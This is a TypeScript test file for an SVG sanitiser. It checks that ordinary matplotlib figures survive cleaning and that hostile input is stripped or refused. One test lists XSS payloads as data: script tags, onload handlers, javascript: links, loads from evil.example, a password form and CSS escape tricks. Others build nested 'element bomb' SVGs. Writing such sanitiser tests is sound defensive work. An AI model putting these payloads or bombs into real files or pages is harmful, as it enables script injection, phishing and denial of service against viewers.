import { expect, test } from 'vitest';
import { cleanSvg } from '../../app/drawing/clean-svg.ts';

const svg = (inside: string, attributes = 'viewBox="0 0 10 10"') =>
  cleanSvg('x.svg', `<svg xmlns="http://www.w3.org/2000/svg" ${attributes}>${inside}</svg>`);

test('what matplotlib writes stays as it looks', () => {
  const { text, width, height } = cleanSvg(
    'roc.svg',
    `<?xml version="1.0" encoding="utf-8" standalone="no"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns:xlink="http://www.w3.org/1999/xlink" width="460.8pt" height="345.6pt" viewBox="0 0 460.8 345.6" version="1.1">
 <metadata><rdf:RDF>Matplotlib</rdf:RDF></metadata>
 <defs><style type="text/css">*{stroke-linejoin: round; stroke-linecap: butt}</style></defs>
 <g id="figure_1"><path d="M 0 345.6 L 460.8 345.6" style="fill: #ffffff"/>
 <g clip-path="url(#p1)"><use xlink:href="#m1" x="57.6" style="stroke: #000000"/></g>
 <image xlink:href="data:image/png;base64,iVBORw0KGgo=" width="3" height="4"/>
 <text style="font-size: 10px; text-anchor: middle" transform="translate(1 2)">a &amp; b &lt; c</text></g>
</svg>`,
  );
  expect([width, height]).toEqual([460.8, 345.6]);
  for (const kept of [
    '<style>*{stroke-linejoin: round; stroke-linecap: butt}</style>',
    '<path d="M 0 345.6 L 460.8 345.6" style="fill: #ffffff" />',
    '<g clip-path="url(#p1)"><use xlink:href="#m1" x="57.6" style="stroke: #000000" /></g>',
    '<image xlink:href="data:image/png;base64,iVBORw0KGgo=" width="3" height="4" />',
    'transform="translate(1 2)">a &#x26; b &#x3C; c</text>',
  ]) {
    expect(text).toContain(kept);
  }
  expect(text).not.toMatch(/Matplotlib|DOCTYPE|\?xml/);
});

test('nothing is left that runs, moves, loads or leads elsewhere', () => {
  const hostile = [
    '<script>alert(1)</script>',
    '<script href="https://evil.example/x.js"/>',
    '<rect onclick="alert(1)" width="1"/>',
    '<a href="javascript:alert(1)"><rect width="2"/></a>',
    '<a xlink:href="https://evil.example"><rect width="3"/></a>',
    '<image href="https://evil.example/x.png"/>',
    '<image href="data:image/svg+xml;base64,PHN2Zz4="/>',
    '<use href="https://evil.example/x.svg#a"/>',
    '<use xlink:href="data:image/svg+xml,x#a"/>',
    '<foreignObject><form action="https://evil.example"><input name="password"/></form></foreignObject>',
    '<set attributeName="href" to="javascript:alert(1)"/>',
    '<animate attributeName="href" values="javascript:alert(1)"/>',
    '<rect style="fill:url(https://evil.example)"/>',
    '<rect style="fill:u\\72l(https://evil.example)"/>',
    '<rect fill="url(//evil.example#a)"/>',
    '<style>@import "https://evil.example/x.css";</style>',
    '<style>rect{fill:url("https://evil.example")}</style>',
    '<style><![CDATA[</style><script>alert(1)</script>]]></style>',
    '<iframe src="https://evil.example"></iframe>',
    '<title><script>alert(1)</script></title>',
    '<svg onload="alert(1)"/>',
    '<text>]]&gt;<![CDATA[<script>alert(1)</script>]]></text>',
  ];
  for (const each of hostile) {
    const { text } = svg(each, 'viewBox="0 0 1 1" onload="alert(1)"');
    expect(text, each).not.toMatch(
      /<script|\son\w+=|javascript:|evil|<a[ >]|<foreign|<set|<anim|<i?frame/i,
    );
  }
});

test('what would hold up who looks at it is refused, in a sentence', () => {
  const nested = Array.from({ length: 10 }, (_, n) => {
    const uses = `<use href="#a${n}"/>`.repeat(10);
    return `<g id="a${n + 1}">${uses}</g>`;
  });
  const bomb = `<g id="a0"><rect/></g>${nested.join('')}<use href="#a10"/>`;
  expect(() => svg(bomb)).toThrow(
    'x.svg has more than 100,000 elements; save it as PNG, or draw fewer points.',
  );
  expect(() => svg('<g id="a"><use href="#a"/></g>')).toThrow('more than 100,000 elements');
  expect(() => svg('<g>'.repeat(50_000))).toThrow('x.svg is nested too deeply.');
  expect(() => cleanSvg('x.svg', 'no picture')).toThrow('x.svg is no SVG.');
  // Few enough, though each is used.
  expect(svg('<g id="a"><rect/></g>' + '<use href="#a"/>'.repeat(100)).text).toContain('<use');
});

/** Ten parts, each of which has the one before ten times. */
const tenfold = (part: (n: number) => readonly [open: string, within: string, close: string]) =>
  Array.from({ length: 9 }, (_, n) => {
    const [open, within, close] = part(n);
    return open + within.repeat(10) + close;
  }).join('');
const painted = (n: number) => `<rect width="1" height="1" fill="url(#p${n})"/>`;

test.each([
  [
    'patterns of patterns',
    tenfold((n) => [`<pattern id="p${n + 1}">`, painted(n), '</pattern>']) + painted(9),
  ],
  [
    'patterns that children inherit',
    tenfold((n) => [
      `<pattern id="p${n + 1}"><g fill="url('#p${n}')">`,
      '<rect/>',
      '</g></pattern>',
    ]) + painted(9),
  ],
  [
    'masks of masks',
    tenfold((n) => [`<mask id="p${n + 1}">`, `<rect mask="url(#p${n})"/>`, '</mask>']) +
      '<rect mask="url(#p9)"/>',
  ],
  [
    'a marker at each of many points',
    `<marker id="m">${'<rect/>'.repeat(1000)}</marker><path style="marker-mid:url( #m )" d="M0 0${' L1 1'.repeat(1000)}"/>`,
  ],
  ['a pattern in itself', `<pattern id="p1">${painted(1)}</pattern>${painted(1)}`],
])('%s are as many elements as are drawn', (_, inside) => {
  expect(() => svg(inside)).toThrow('more than 100,000 elements');
});

test('paints, clips and markers of an ordinary picture are counted and stay', () => {
  const gradient = '<linearGradient id="g"><stop/><stop/></linearGradient>';
  const curve = `<path fill="url(#g)" d="M0 0${' L1 1'.repeat(30_000)}"/>`;
  const points = '<g clip-path="url(#c)"><use href="#d"/></g>'.repeat(10_000);
  const parts = '<clipPath id="c"><rect/></clipPath><path id="d" d="M0 0"/>';
  expect(svg(gradient + curve + parts + points).text).toContain('fill="url(#g)"');
});

test.each([
  '@keyframes a{to{opacity:0}} *{animation:a 1s infinite}',
  '*{filter:blur(500px)}',
  'rect{fill:url(#p)}',
])('a style sheet that moves, blurs or paints by reference goes: %s', (css) => {
  expect(svg(`<style>${css}</style><rect/>`).text).not.toContain('style');
  expect(svg('<rect style="filter:blur(9px)"/>').text).not.toContain('blur');
});

test('its size is that of its box, or of what it says', () => {
  expect(svg('', 'width="96" height="48px"')).toMatchObject({ width: 96, height: 48 });
  expect(svg('', 'width="1in" height="0.5in"')).toMatchObject({ width: 96, height: 48 });
  expect(svg('', 'width="100%"')).toMatchObject({ width: 300, height: 150 });
  expect(svg('', 'viewBox="1 2 3 4" width="96"').text).toContain('viewBox="1 2 3 4"');
  expect(svg('<title> A curve </title>').title).toBe('A curve');
});
